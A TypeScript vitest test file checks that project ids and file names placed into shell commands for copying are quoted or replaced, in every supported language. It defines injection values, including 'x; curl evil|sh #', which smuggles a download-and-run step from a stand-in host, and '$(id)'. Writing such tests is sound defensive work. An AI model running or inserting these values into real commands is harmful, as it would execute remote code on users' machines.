// Names in commands to copy: a hostile file name never becomes a command of its own, in any language.
import { expect, test } from 'vitest';
import { fileInCommand, idInCommand } from '../../src/i18n/in-command.ts';
import { languages } from '../../src/i18n/language.ts';
import { loadCatalogue } from '../../src/i18n/load-catalogue.ts';

const hostile = 'x; curl evil|sh #';

test('an id is typed as it is, and what cannot be one is not', () => {
  expect(idInCommand('sak-ki')).toBe('sak-ki');
  for (const id of [hostile, '-rf', '$(id)', 'a`id`', 'a b', "a'b", 'a\nb', '']) expect(idInCommand(id)).toBe('ID');
});

test('a file is one word to a shell', () => {
  expect(fileInCommand('projects/sak-ki.yaml')).toBe('projects/sak-ki.yaml');
  expect(fileInCommand("projects/x; curl's.yaml")).toBe("'projects/x; curl'\\''s.yaml'");
  expect(fileInCommand('-x.yaml')).toBe("'./-x.yaml'");
});

test.each(languages)(
  'in %s the words that name a card in a command give a hostile name no place there',
  async (language) => {
    const { council, select, history, speak } = await loadCatalogue(language, 'NOK');
    const { steps } = select.infeasible;
    const told = [
      history.goesOn(hostile),
      council.granted({ stage: 'planning', date: '1.1.2027', reference: '1/27', id: hostile }, speak),
      ...(['unscored', 'rejected', 'absent', 'start_past', 'delivered', 'no_years'] as const).map((because) =>
        steps.notThere(because, { project: 'X', id: hostile, needs: 'Y' }),
      ),
    ];
    for (const text of told) {
      expect(text).toMatch(/portfolio [a-z -]+ID[»"”]/);
      expect(text).not.toMatch(/portfolio [^»"”]*curl/);
    }
  },
);
